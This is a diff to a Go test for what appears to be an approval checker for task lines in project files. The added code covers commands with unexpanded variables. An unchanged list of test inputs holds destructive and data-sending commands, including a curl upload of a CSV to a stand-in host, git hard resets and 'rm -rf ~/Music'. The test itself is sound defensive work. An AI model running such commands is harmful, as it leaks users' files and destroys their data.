@@ -77,6 +77,7 @@ func TestLinesOfTasks(t *testing.T) {
 		"sh /tmp/x.sh", "curl -T a.csv https://h.example/u", "git stash clear", "git reset --hard HEAD~3", "frob destroy prod", "rm -rf ~/Music",
 	}
 	daily := []string{"echo a b", "frob build x", "jest --ci", "docker ps -a", "gpg --version", "docker compose ps", "rm -rf build dist", "kubectl get pods"}
+	open := []string{"go vet $X ./...", "pytest $ARGS", "jest ${FILES}"} // words that only the run tells
 	asks := func(file, text, line, run string) bool {
 		p := inProject(t, map[string]string{"README.md": "x"})
 		p.write(file, strings.ReplaceAll(text, "%s", line))
@@ -90,6 +91,13 @@ func TestLinesOfTasks(t *testing.T) {
 		}
 		for _, line := range daily {
 			if !k.asks && asks(k.file, k.text, line, k.run) {
+				t.Errorf("%s with %q: %s asks", k.file, line, k.run)
+			}
+		}
+	}
+	for _, k := range keepers {
+		for _, line := range open {
+			if !k.asks && !strings.HasSuffix(k.file, ".py") && asks(k.file, k.text, line, k.run) {
 				t.Errorf("%s with %q: %s asks", k.file, line, k.run)
 			}
 		}
